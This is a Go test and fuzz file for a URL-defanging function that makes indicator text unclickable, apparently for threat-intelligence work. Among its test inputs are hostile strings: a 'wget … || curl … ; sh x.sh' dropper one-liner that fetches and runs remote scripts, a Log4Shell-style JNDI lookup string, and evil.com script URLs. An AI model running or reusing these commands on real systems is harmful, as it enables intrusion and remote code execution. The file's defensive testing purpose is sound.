package plain

import (
	"regexp"
	"strings"
	"testing"
)

func TestDefang(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"no url. at: all", "no url. at: all"},
		{"http://evil.com/a.sh", "hxxp://evil[.]com/a.sh"},
		{"https://1.2.3.4:8080/x?y=a.b#c.d", "hxxps://1[.]2[.]3[.]4:8080/x?y=a.b#c.d"},
		{"ftp://u.n:p.w@h.net/f.bin", "fxp://u[.]n:p[.]w@h[.]net/f.bin"},
		{"tftp://10.0.0.1/mips", "tfxp://10[.]0[.]0[.]1/mips"},
		{"HTTP://EVIL.COM Https://a.b", "HXXP://EVIL[.]COM Hxxps://a[.]b"},
		{"cd /tmp; wget http://a.b/x.sh||curl -O http://c.d/y.sh;sh x.sh", "cd /tmp; wget hxxp://a[.]b/x.sh||curl -O hxxp://c[.]d/y.sh;sh x.sh"},
		{"xhttp://a.b", "xhxxp://a[.]b"},
		{"http://http://a.b", "hxxp://hxxp://a[.]b"},
		{"http://a.b/http://c.d", "hxxp://a[.]b/hxxp://c[.]d"},
		{"http://u:http://c.d", "hxxp://u:hxxp://c[.]d"},
		{`http:\\a.b\c.d`, `hxxp:\\a[.]b\c.d`},
		{`{"u":"http:\/\/a.b\/c.d"}`, `{"u":"hxxp:\/\/a[.]b\/c.d"}`},
		{"http:/a.b http:////a.b", "hxxp:/a[.]b hxxp:////a[.]b"},
		{"${jndi:ldap://a.b/c.d}", "${jndi:ldap://a[.]b/c.d}"},
		{"http://a\u200b.b。c．d/", "hxxp://a\u200b[.]b[。]c[．]d/"},
		{"http://[::ffff:1.2.3.4]/", "hxxp://[::ffff:1[.]2[.]3[.]4]/"},
		{"hxxp://a[.]b", "hxxp://a[.]b"},
		{"www.evil.com/a.b WWW2.evil.com", "www[.]evil[.]com/a.b WWW2[.]evil[.]com"},
		{"ftp.evil.com ftp1.sh tftp1.sh", "ftp[.]evil[.]com ftp1.sh tftp1.sh"},
		{`C:\Windows 12:30 a.b:c`, `C:\Windows 12:30 a.b:c`},
		{"\u202ftp://a.b", "\u202fxp://a[.]b"}, // escaped, \u202ftp://
		{"\xbftp://a.b \x0ftps:/a.b", "\xbfxp://a[.]b \x0fxps:/a[.]b"},
		{"http:", "http:"},
		{"http://", "hxxp://"},
	} {
		if got := Defang(c.in); got != c.want {
			t.Errorf("Defang(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

var (
	live = regexp.MustCompile(`(?i)(?:https?|ftps?):[/\\]|\bwww\.[a-z0-9]`)
	// What terminals link; a backslash that Escape wrote after a colon is none.
	linked = regexp.MustCompile(`(?i)(?:https?|ftps?):/|\bwww\.[a-z0-9]`)
)

func FuzzDefang(f *testing.F) {
	for _, s := range []string{"http://a.b", "http://http://a.b", `http:\/\/a.b`, "ftp://www.a.b", "a://b.c", "www.a.b", "http:http:/a", "hhttp://a[.]b.[.]", "http://[.", "http://a:ftp:\\b", "\xbftp:/", `www.a.tp:\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d := Defang(s)
		if m := live.FindString(d); m != "" {
			t.Errorf("Defang(%q) = %q still has %q", s, d, m)
		}
		if m := linked.FindString(Escape(d)); m != "" {
			t.Errorf("Escape(Defang(%q)) = %q has %q", s, Escape(d), m)
		}
		if again := Defang(d); again != d {
			t.Errorf("Defang twice: %q -> %q -> %q", s, d, again)
		}
		undo := strings.NewReplacer("[.]", ".", "x", "t", "X", "T", "[。]", "。", "[．]", "．", "[｡]", "｡")
		if undo.Replace(d) != undo.Replace(s) {
			t.Errorf("Defang(%q) = %q changed more than it may", s, d)
		}
	})
}
